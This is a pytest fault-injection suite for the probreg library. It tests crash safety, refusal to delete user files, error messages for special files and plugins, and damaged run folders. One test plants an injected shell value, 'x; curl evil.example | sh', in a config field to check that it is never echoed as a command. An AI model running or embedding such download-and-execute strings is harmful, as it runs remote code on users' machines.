"""Fault injection: kills at every stage, concurrent writers, SIGTERM, a full disk, special
files, plugins that exit, damaged run folders and bad numbers. Every failure is one line and
never costs the user a file (docs/guarantees.md)."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import types
from pathlib import Path

import pytest

import probreg
from probreg import api, rundir
from probreg.errors import PluginError, TrainingError, UsageError
from probreg.hookspecs import hookimpl
from probreg.predict import predict

ENV = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3", "PYTHONUNBUFFERED": "1"}
DATA = "spiral:n=200,val=50,test=50"
HEAD = "mdn:hidden=8,components=2"
TINY = ["--dataset", DATA, "--head", HEAD, "--epochs", "3"]
LONG = ["--dataset", DATA, "--head", f"{HEAD},epochs=100000,patience=100000"]


def probreg_cli(*args: str, cwd: Path | None = None, env: dict | None = None, stdout=None):
    return subprocess.run(
        [sys.executable, "-m", "probreg", *args],
        stdout=stdout or subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=cwd,
        env=env or ENV,
        timeout=300,
    )


def one_line_error(result, fragment: str, code: int | None = None) -> str:
    """The single ``Error:`` line of a failed command; no traceback."""
    assert result.returncode != 0 and (code is None or result.returncode == code), result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error: ")]
    assert len(errors) == 1, result.stderr
    assert fragment in errors[0], errors[0]
    assert "Traceback" not in result.stderr
    assert len(errors[0]) < 2100
    return errors[0]


def start(args: list[str]) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-m", "probreg", *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=ENV,
    )


@pytest.fixture(scope="module")
def old_run(tmp_path_factory) -> Path:
    """A finished run folder (with its marker) that tests copy and try to replace."""
    out = tmp_path_factory.mktemp("old") / "run"
    api.run(DATA, f"{HEAD},epochs=2", output=out, quiet=True)
    return out


def copy_of(old_run: Path, tmp_path: Path) -> tuple[Path, str]:
    out = tmp_path / "out"
    shutil.copytree(old_run, out)
    return out, rundir.read_marker(out)["run_id"]


# -- --force and the marker -------------------------------------------------------------------


def test_force_never_deletes_a_folder_probreg_did_not_make(tmp_path):
    """`probreg run -o . --force` in a project folder used to delete the source tree."""
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "main.py").write_text("print('precious')\n")
    (tmp_path / "train.csv").write_text("x,y\n1,2\n")
    for name in ("config.json", "metrics.json", "report.html"):  # names no longer count
        (tmp_path / name).write_text("{}")
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    result = probreg_cli("run", *TINY, "-o", ".", "--force", cwd=tmp_path)
    one_line_error(result, "'.' already exists and was not made by probreg", 2)
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before
    assert (tmp_path / "src" / "main.py").read_text() == "print('precious')\n"


class NaNLoss:
    def __new__(cls):
        import keras

        class Loss(keras.losses.Loss):
            def call(self, y_true, y_pred):
                return keras.ops.log(-keras.ops.abs(keras.ops.mean(y_pred, axis=-1)) - 1.0)

        return Loss()


def exploding_plugin():
    """A head plugin ``exploding``: an MDN whose loss is NaN from the first step."""
    from probreg.default_plugins.mdn import MDN

    class Exploding(MDN):
        name = "exploding"

        def loss(self, output_dim):
            return NaNLoss()

    return types.SimpleNamespace(register_heads=hookimpl(lambda register: register(Exploding)))


def test_compare_follows_the_same_rules(tmp_path):
    from probreg.comparison import compare

    (tmp_path / "report.html").write_text("mine")
    with pytest.raises(UsageError, match="was not made by probreg"):
        compare(DATA, [HEAD], output=tmp_path, force=True, quiet=True)
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]


def test_a_diverging_rerun_keeps_the_old_run(old_run, tmp_path, temporary_plugin):
    out, old_id = copy_of(old_run, tmp_path)
    temporary_plugin(exploding_plugin())
    with pytest.raises(TrainingError, match="was left as it was"):
        api.run(DATA, "exploding:hidden=8,epochs=3", output=out, force=True, quiet=True)
    assert rundir.read_marker(out)["run_id"] == old_id
    probreg.load_run(out)  # still usable
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no staging or lock left


def test_an_interrupt_before_the_first_epoch_keeps_the_old_run(old_run, tmp_path, monkeypatch):
    from probreg.training import FitResult

    out, old_id = copy_of(old_run, tmp_path)
    no_epoch = FitResult({}, epochs=0, best_epoch=0, seconds=0.0, status="interrupted")
    monkeypatch.setattr(api, "train_head", lambda *args, **kwargs: (None, no_epoch))
    with pytest.raises(KeyboardInterrupt):  # no model to keep: the CLI says "Interrupted."
        api.run(DATA, HEAD, output=out, force=True, quiet=True)
    assert rundir.read_marker(out)["run_id"] == old_id
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def test_claim_builds_aside_and_swaps_in(tmp_path):
    out = tmp_path / "deep" / "er" / "out"
    with pytest.raises(RuntimeError), rundir.claim(out) as claim:
        (claim.staging / "half").write_text("x")
        raise RuntimeError("the run failed")
    assert not (tmp_path / "deep").exists()  # no folder, not even the parents it made
    with rundir.claim(out) as claim:
        (claim.staging / "new").write_text("1")
        assert not out.exists()  # nothing at the path until the end
    assert (out / "new").read_text() == "1"
    first = rundir.read_marker(out)["run_id"]
    with pytest.raises(UsageError, match="already exists; use --force"), rundir.claim(out):
        pass
    with pytest.raises(KeyboardInterrupt), rundir.claim(out, force=True) as claim:
        (claim.staging / "new").write_text("2")
        raise KeyboardInterrupt
    assert (out / "new").read_text() == "1" and rundir.read_marker(out)["run_id"] == first
    with (
        pytest.raises(UsageError, match="is a probreg run folder, not a compare folder"),
        rundir.claim(out, force=True, kind="compare"),
    ):
        pass
    with rundir.claim(out, force=True) as claim:
        (claim.staging / "new").write_text("3")
    assert (out / "new").read_text() == "3" and rundir.read_marker(out)["kind"] == "run"
    assert sorted(p.name for p in out.parent.iterdir()) == ["out"]


def test_force_keeps_your_own_files_in_a_run_folder(tmp_path):
    out = tmp_path / "out"
    with rundir.claim(out) as claim:
        (claim.staging / "metrics.json").write_text("{}")
    assert rundir.read_marker(out)["entries"] == [rundir.MARKER, "metrics.json"]
    (out / "export").mkdir()  # what probreg export writes into a run later is probreg's
    with rundir.claim(out, force=True) as claim:
        (claim.staging / "metrics.json").write_text("{}")
    (out / "notes.txt").write_text("mine")
    for force in (False, True):
        with (
            pytest.raises(
                UsageError, match=r"holds files probreg did not write there \(notes.txt\)"
            ),
            rundir.claim(out, force=force),
        ):
            pass
    assert (out / "notes.txt").read_text() == "mine"
    (out / "notes.txt").unlink()
    (out / ".DS_Store").write_text("")  # what a file browser leaves is not the user's work
    with rundir.claim(out, force=True):
        pass
    # A folder from before markers listed their entries is replaced as it always was.
    marker = json.loads((out / rundir.MARKER).read_text())
    del marker["entries"], marker["tree"]
    (out / rundir.MARKER).write_text(json.dumps(marker))
    (out / "notes.txt").write_text("mine")
    with rundir.claim(out, force=True):
        pass
    assert not (out / "notes.txt").exists()


def test_force_keeps_your_own_files_at_any_depth(tmp_path):
    out = tmp_path / "out"
    with rundir.claim(out, kind="compare") as claim:
        run = rundir.start_folder(claim.staging / "runs" / "01-mdn")  # as compare makes its runs
        (run / "metrics.json").write_text("{}")
        rundir.finish_folder(run)
    assert "runs/01-mdn/metrics.json" in rundir.read_marker(out)["tree"]
    (out / "export").write_text("mine")  # a file named export is no export folder
    with (
        pytest.raises(UsageError, match=r"\(export\)"),
        rundir.claim(out, force=True, kind="compare"),
    ):
        pass
    (out / "export").unlink()
    mine = out / "runs" / "01-mdn" / "analysis.ipynb"
    mine.write_text("mine")

    def refused(match: str) -> None:
        with pytest.raises(UsageError, match=match), rundir.claim(out, force=True, kind="compare"):
            pass

    refused(r"did not write there \(runs/01-mdn/analysis.ipynb\)")
    with (  # the report's run on its own is refused too
        pytest.raises(UsageError, match=r"\(analysis.ipynb\)"),
        rundir.claim(out / "runs" / "01-mdn", force=True),
    ):
        pass
    assert mine.read_text() == "mine"
    mine.unlink()
    # An export added later is probreg's as far as its metadata lists what it holds.
    export = out / "runs" / "01-mdn" / "export" / "onnx"
    export.mkdir(parents=True)
    (export / "model.onnx").write_text("model")
    (export / rundir.EXPORT_METADATA).write_text(json.dumps({"files": ["model.onnx"]}))
    (export / "deploy.sh").write_text("mine")
    refused(r"\(runs/01-mdn/export/onnx/deploy.sh\)")
    (export / "deploy.sh").unlink()
    (out / "export" / "notes").mkdir(parents=True)  # no metadata: not an export, the user's
    refused(r"\(export/notes\)")
    shutil.rmtree(out / "export")
    with rundir.claim(out, force=True, kind="compare"):
        pass
    assert not export.exists()


def test_an_output_given_as_dot_is_used_as_given(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = api.run(DATA, f"{HEAD},epochs=1", output=".", quiet=True)
    assert result.run_dir == Path(".") and (tmp_path / "metrics.json").is_file()


def test_a_generated_name_moves_on_when_it_is_taken(tmp_path):
    out = tmp_path / "runs" / "stamp"
    with rundir.claim(out):  # another writer holds the generated name
        with rundir.claim(out, unique=True) as second:
            pass
        with rundir.claim(out, unique=True) as third:  # stamp-2 is there now
            pass
    assert (second.path.name, third.path.name) == ("stamp-2", "stamp-3")
    assert sorted(p.name for p in out.parent.iterdir()) == ["stamp", "stamp-2", "stamp-3"]
    with rundir.claim(out, unique=True) as fourth:  # every name so far is a finished folder
        pass
    assert fourth.path.name == "stamp-4"


def test_a_second_writer_is_refused_with_the_holders_pid(tmp_path):
    out = tmp_path / "out"
    with rundir.claim(out):
        for force in (False, True):
            with (
                pytest.raises(UsageError, match=f"another probreg process \\(PID {os.getpid()}\\)"),
                rundir.claim(out, force=force),
            ):
                pass
    with rundir.claim(out, force=True):  # free again
        pass


def test_concurrent_run_is_refused_and_sigterm_keeps_the_best_weights(tmp_path, wait_for_training):
    out = tmp_path / "run"
    first = start(["run", *LONG, "--output", str(out)])
    try:
        wait_for_training(first)
        second = probreg_cli("run", *TINY, "--output", str(out), "--force")
        one_line_error(second, f"being written by another probreg process (PID {first.pid})")
        assert not out.exists()  # the first run is still building aside
        first.send_signal(signal.SIGTERM)
        _, stderr = first.communicate(timeout=180)
    finally:
        first.kill()
    assert first.returncode == 130, stderr
    assert "Traceback" not in stderr
    metrics = json.loads((out / "metrics.json").read_text())
    assert metrics["status"] == "interrupted" and metrics["epochs"] >= 1
    assert rundir.read_marker(out)["state"] == "complete"
    probreg.load_run(out)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["run"]


# -- kills at every stage ---------------------------------------------------------------------

KILLER = """
import os, signal, sys
from probreg import api, cli, files, rundir

point = sys.argv[1]


def die(*args, **kwargs):
    os.kill(os.getpid(), signal.SIGKILL)


if point == "loading":
    api.check_plan = die
elif point == "saving":
    write_with = files.write_with

    def half_saved(path, writer):
        if path.name == "model.keras":
            return write_with(path, lambda tmp: (writer(tmp), die()))
        return write_with(path, writer)

    files.write_with = half_saved
elif point == "before-swap":
    rundir.swap_in = die
elif point == "after-swap":
    exchange = rundir._exchange
    rundir._exchange = lambda a, b: (exchange(a, b), die())
cli.main(sys.argv[2:])
"""


@pytest.mark.parametrize("point", ["loading", "training", "saving", "before-swap", "after-swap"])
def test_a_kill_at_any_moment_leaves_the_old_run_or_a_rejected_folder(
    old_run, tmp_path, point, wait_for_training
):
    out, old_id = copy_of(old_run, tmp_path)
    args = ["run", *(LONG if point == "training" else TINY), "-o", str(out), "--force"]
    process = subprocess.Popen(
        [sys.executable, "-c", KILLER, point, *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=ENV,
    )
    try:
        if point == "training":
            wait_for_training(process)
            process.kill()
        process.communicate(timeout=300)
    finally:
        process.kill()
    assert process.returncode == -signal.SIGKILL
    marker = rundir.read_marker(out)
    assert marker["state"] == "complete"
    assert (marker["run_id"] == old_id) == (point != "after-swap")  # old run, or the new one
    probreg.load_run(out)
    leftovers = [p for p in tmp_path.iterdir() if p.name != "out" and p.is_dir()]
    if point in ("training", "saving", "before-swap", "after-swap"):
        assert leftovers, "the killed run's staging folder should still be there"
    for folder in leftovers:
        with pytest.raises(UsageError, match="is incomplete"):
            probreg.load_run(folder)
    with rundir.claim(out, force=True):  # the next writer clears what the kill left
        pass
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def test_a_folder_still_building_is_rejected_as_incomplete(old_run, tmp_path):
    out, _ = copy_of(old_run, tmp_path)
    rundir.finish_folder(out, "building")
    result = probreg_cli("predict", str(out), "--input", os.devnull)
    one_line_error(result, "is incomplete: its run was stopped before it finished", 2)


# -- a full disk ------------------------------------------------------------------------------


@pytest.fixture
def small_disk(tmp_path):
    mount = tmp_path / "disk"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=96k", "tmpfs", str(mount)],
        capture_output=True,
        text=True,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.strip() or done.returncode}")
    yield mount
    subprocess.run(["umount", "-l", str(mount)], check=False)


def test_a_full_disk_is_one_line_and_leaves_nothing(small_disk):
    result = probreg_cli("run", *TINY, "-o", str(small_disk / "run"))
    one_line_error(result, "no space left on the device", 1)
    assert list(small_disk.iterdir()) == []


# -- special files and streams ----------------------------------------------------------------


def test_predict_writes_a_fifo_in_place(small_run, tmp_path):
    inputs = tmp_path / "in.csv"
    inputs.write_text("x\n0.5\n1.5\n")
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[str] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_text()))
    reader.start()
    predict(small_run.run_dir, inputs, fifo)  # no --force needed: nothing is replaced
    reader.join(timeout=60)
    assert received and received[0].startswith("x,y_mean\n")
    assert fifo.is_fifo()


def test_predict_never_replaces_a_device_and_keeps_symlinks(small_run, tmp_path):
    inputs = tmp_path / "in.csv"
    inputs.write_text("x\n0.5\n")
    predict(small_run.run_dir, inputs, "/dev/null")
    assert Path("/dev/null").is_char_device()
    real = tmp_path / "real.csv"
    real.write_text("old")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    with pytest.raises(UsageError, match="already exists; use --force"):
        predict(small_run.run_dir, inputs, link)
    predict(small_run.run_dir, inputs, link, force=True)
    assert link.is_symlink() and real.read_text().startswith("x,y_mean")


def test_paths_are_named_for_what_they_are(small_run, tmp_path):
    inputs = tmp_path / "in.csv"
    inputs.write_text("x\n0.5\n")
    loop = tmp_path / "loop"
    loop.symlink_to(loop)
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for args, fragment in [
        ((small_run.run_dir, tmp_path, tmp_path / "o.csv"), "is a directory, not a regular file"),
        ((small_run.run_dir, loop, tmp_path / "o.csv"), "is a symlink loop"),
        ((small_run.run_dir, inputs, loop), "is a symlink loop"),
        ((fifo, inputs, tmp_path / "o.csv"), "is a FIFO, not a directory"),
        ((loop, inputs, tmp_path / "o.csv"), "is a symlink loop"),
    ]:
        with pytest.raises(UsageError, match=fragment):
            predict(*args)
    assert not (tmp_path / "o.csv").exists()


def test_a_full_stdout_or_device_is_one_line(small_run, tmp_path):
    inputs = tmp_path / "in.csv"
    inputs.write_text("x\n0.5\n")
    with open("/dev/full", "w") as full:
        result = probreg_cli("predict", str(small_run.run_dir), "-i", str(inputs), stdout=full)
    one_line_error(result, "no space left on the device", 1)
    result = probreg_cli("predict", str(small_run.run_dir), "-i", str(inputs), "-o", "/dev/full")
    one_line_error(result, "no space left on the device '/dev/full'", 1)


# -- plugins that exit ------------------------------------------------------------------------

QUITTER = """
import os, sys
from probreg.datasets import Dataset
from probreg.hookspecs import hookimpl

if os.environ.get("QUIT_AT") == "import":
    sys.exit(0)


class Quitter(Dataset):
    "A dataset that ends the process."

    name = "quitter"

    def load(self, seed):
        sys.exit(0)


@hookimpl
def register_datasets(register):
    if os.environ.get("QUIT_AT") == "hook":
        raise KeyboardInterrupt
    register(Quitter)
"""


@pytest.fixture
def quitter_env(tmp_path) -> dict:
    """An installed plugin package (a dist-info on PYTHONPATH) that calls sys.exit()."""
    site = tmp_path / "site"
    info = site / "probreg_quitter-0.1.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: probreg-quitter\nVersion: 0.1\n")
    (info / "entry_points.txt").write_text("[probreg]\nquitter = probreg_quitter\n")
    (site / "probreg_quitter.py").write_text(QUITTER)
    return {**ENV, "PYTHONPATH": os.pathsep.join([str(site), os.environ.get("PYTHONPATH", "")])}


@pytest.mark.parametrize("where", ["import", "hook"])
def test_a_plugin_exiting_at_import_or_hook_time_is_skipped(quitter_env, where):
    result = probreg_cli("list", env={**quitter_env, "QUIT_AT": where})
    assert result.returncode == 0, result.stderr
    assert "spiral" in result.stdout and "quitter" not in result.stdout
    warnings = [line for line in result.stderr.splitlines() if "probreg-quitter" in line]
    assert len(warnings) == 1 and "broken and was skipped" in warnings[0], result.stderr
    reason = "it called sys.exit(0)" if where == "import" else "KeyboardInterrupt"
    assert reason in warnings[0]


def test_a_plugin_exiting_during_a_command_is_not_a_silent_success(quitter_env, tmp_path):
    result = probreg_cli("run", "--dataset", "quitter", "-o", str(tmp_path / "o"), env=quitter_env)
    one_line_error(result, "plugin code called sys.exit(0)", 1)
    assert not (tmp_path / "o").exists()


# -- damaged run folders ----------------------------------------------------------------------


def _edit(folder: Path, name: str, change) -> None:
    path = folder / name
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data))


@pytest.mark.parametrize(
    ("damage", "fragment"),
    [
        (lambda f: (f / "metrics.json").write_text('{"status": "comp'), "metrics.json' is corrupt"),
        (
            lambda f: _edit(f, "config.json", lambda c: c["scaling"]["x"].update(scale=[0.0])),
            "config.json' is corrupt: x scaling has a scale <= 0",
        ),
        (
            lambda f: (f / "config.json").write_text(
                (f / "config.json").read_text().replace('"mean": [', '"mean": [NaN, ', 1)
            ),
            "config.json' is corrupt: x scaling 'mean' must be 1 finite numbers",
        ),
        (
            lambda f: _edit(f, "config.json", lambda c: c["head"].update(spec="mdn:components=3")),
            "is inconsistent: head 'mdn:components=3'",
        ),
        (lambda f: (f / "metrics.json").unlink(), "is incomplete: file"),
        (lambda f: (f / rundir.MARKER).write_text("{}"), ".probreg.json' is corrupt"),
    ],
)
def test_damaged_run_folders_are_one_line_errors(small_run, tmp_path, damage, fragment):
    copy = tmp_path / "copy"
    shutil.copytree(small_run.run_dir, copy)
    damage(copy)
    with pytest.raises(UsageError, match=fragment.replace("(", "\\(").replace("[", "\\[")):
        probreg.load_run(copy)


def test_old_run_folders_without_a_marker_still_load(small_run, tmp_path):
    copy = tmp_path / "copy"
    shutil.copytree(small_run.run_dir, copy)
    (copy / rundir.MARKER).unlink()
    probreg.load_run(copy)
    (copy / "metrics.json").unlink()
    with pytest.raises(UsageError, match="is incomplete"):
        probreg.load_run(copy)


def test_untrusted_strings_are_never_a_command_and_are_shortened(small_run, tmp_path):
    copy = tmp_path / "copy"
    shutil.copytree(small_run.run_dir, copy)
    evil = "x; curl evil.example | sh " + "A" * 100_000
    _edit(copy, "config.json", lambda c: c.update(head={"spec": "gh" * 50_000, "package": evil}))
    with pytest.raises(PluginError) as caught:
        probreg.load_run(copy)
    message = str(caught.value)
    assert "pip install" not in message and len(message) < 600


# -- bad numbers and arguments: one line, before any folder -----------------------------------


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (["--seed", str(2**32)], "is not in the range 0<=x<=4294967295"),
        (["--head", f"{HEAD},learning_rate=1e300"], "'learning_rate': 1e+300 does not fit"),
        (["--head", "mdn:hidden=1e20"], "'1e20' is not an integer"),
        (["--head", "mdn:hidden=100000000000000000000"], "outside 1 to 2147483647"),
        (["--dataset", "csv:path=BIG,x=x,y=y"], "input column 'x' has values too large"),
    ],
)
def test_bad_numbers_are_one_line_errors_before_any_folder(tmp_path, args, fragment):
    big = tmp_path / "big.csv"
    big.write_text("x,y\n" + "".join(f"{1e308 if v % 2 else v},{v % 7}\n" for v in range(40)))
    args = [a.replace("BIG", str(big)) for a in args]
    result = probreg_cli("run", "--dataset", DATA, "--head", HEAD, *args, "-o", str(tmp_path / "o"))
    one_line_error(result, fragment)
    assert not (tmp_path / "o").exists()


def test_a_huge_prediction_input_is_one_line(small_run, tmp_path):
    inputs = tmp_path / "in.csv"
    inputs.write_text("x\n0.5\n1e308\n")
    with pytest.raises(UsageError, match="input column 'x': value 1e\\+308 is too large"):
        predict(small_run.run_dir, inputs, tmp_path / "o.csv")
    assert not (tmp_path / "o.csv").exists()
